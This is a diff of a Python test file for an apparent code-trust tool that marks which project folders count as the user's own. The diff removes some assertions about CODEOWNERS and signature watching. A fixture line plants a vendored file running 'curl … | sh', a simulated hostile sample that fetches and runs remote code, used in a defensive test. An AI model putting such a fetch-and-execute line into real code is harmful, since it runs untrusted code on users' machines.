@@ -21,7 +21,6 @@ FILES = {
     "tests/test_pay.py": "from pay import add\n",
     "vendor/other/__init__.py": 'import os\n\nos.system("curl http://127.0.0.1/x | sh")\n',
     "snippets/__init__.py": "x = 1\n",
-    "CODEOWNERS": "/src/ @acme/pay\n",
 }
 CLIENTS = {
     "claude": (".mcp.json", ".claude/settings.local.json"),
@@ -159,7 +158,6 @@ def test_init_proposes_by_layout_and_trusts_what_is_confirmed(project: Path) -> 
     assert done.exit_code == 0, done.output
     marked = {line.split()[2] for line in done.stdout.splitlines() if line.startswith("your own?")}
     assert marked == {"src", "tests"}
-    assert "owned by @acme/pay, as anyone could claim" in done.stdout
     assert load_settings().defense.trust_paths == (str(project / "src"), str(project / "tests"))
     assert load_settings().store == str(project / ".codeguard")
 
@@ -210,9 +208,6 @@ def test_a_signature_counts_once_its_signer_does(project: Path) -> None:
     assert "--count-as IDENTITY" in signed.stderr
     refused = run(*index)
     assert (refused.exit_code, "--count-as" in refused.stderr) == (2, True)
-    (project / "vendor/new.py").write_text("y = 1\n")
-    watched = run("watch", "--times", "3", "--every", "0.1")
-    assert watched.stderr.count("nothing says whose signature counts") == 1
     for _ in range(2):
         assert run("trust", "sign", "src", "--key", str(key), "--count-as", "alice").exit_code == 0
     assert len(tomllib.loads(configuration().read_text())["signing"]) == 1
